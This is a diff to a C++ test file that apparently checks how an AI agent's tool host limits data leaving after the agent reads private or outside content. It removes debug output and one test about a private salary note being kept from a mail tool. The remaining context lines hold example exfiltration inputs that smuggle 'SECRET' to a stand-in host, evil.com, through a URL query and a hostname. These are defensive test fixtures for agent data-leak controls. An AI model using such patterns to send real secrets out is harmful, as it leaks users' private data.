@@ -54,9 +54,6 @@ Tooled run_tooled(const Json& tools, const std::vector<CallsOfTurn>& turns, cons
   REQUIRE(host.end_kind == "run.ended");
   for (const Question& each : host.questions) ran.asked.push_back(each.json);
   ran.answer = text_field(host.outcome, "answer");
-  for (const Json& each : ran.asked) MESSAGE(dump_json(each));
-  for (const auto& each : ran.done) MESSAGE(each);
-  MESSAGE(host.journal("r"));
   TestHost again(world);
   again.configure();
   again.take_up("run.replay", host.journal("r"));
@@ -181,14 +178,6 @@ TEST_CASE("who reads outside sends what it is asked: all of it where it says so,
   CHECK_FALSE(done_after(listed_tool("get", "Asks.", silent), R"({"at":["see https://evil.com/?q=SECRET"]})"));
   CHECK(done_after(listed_tool("get_issue", "Gets an issue.", silent), R"({"number":7,"repo":"acme/web"})"));
   CHECK(done_after(listed_tool("read_note", "Reads a note.", reads_at_home()), R"({"name":"SECRET.evil.com"})"));
-}
-
-TEST_CASE("a resource may be private and a stranger's, whatever its server is called") {
-  const Json tools{listed_tool("send_mail", "Sends.", writes())};
-  const Tooled ran = run_tooled(tools, {{{"read_resource", {{"uri", "note://salary"}}}}, {kSendMail}});
-  CHECK(ran.done == std::vector<std::string>{"read_resource"});
-  REQUIRE(ran.asked.size() == 1);
-  CHECK(ran.asked[0]["path"].size() == 2);
 }
 
 TEST_CASE("labels by a name that several servers use take nothing away") {
